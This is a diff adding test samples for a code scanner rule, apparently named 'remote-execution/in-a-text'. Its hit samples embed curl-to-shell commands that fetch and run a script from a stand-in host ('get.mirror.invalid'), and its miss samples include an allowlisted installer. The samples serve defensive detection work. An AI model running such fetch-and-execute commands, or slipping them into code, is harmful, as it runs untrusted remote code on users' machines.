@@ -200,6 +200,17 @@ pub(super) const SAMPLES: &[RuleSamples] = &[
         misses: &[("run.sh", "curl -LsSf https://astral.sh/uv/install.sh | sh")],
     },
     RuleSamples {
+        rule: "remote-execution/in-a-text",
+        hits: &[
+            ("run.py", "STEPS = ['curl -s https://get.mirror.invalid/x | sh']"),
+            ("run.js", "const hint = 'bash <(curl -s https://get.mirror.invalid/x)';"),
+        ],
+        misses: &[
+            ("run.py", "STEPS = ['curl -LsSf https://astral.sh/uv/install.sh | sh']"),
+            ("run.py", "STEPS = ['curl -s https://data.mirror.invalid/x | jq .']"),
+        ],
+    },
+    RuleSamples {
         rule: "obfuscation/decoded-and-run",
         hits: &[
             (
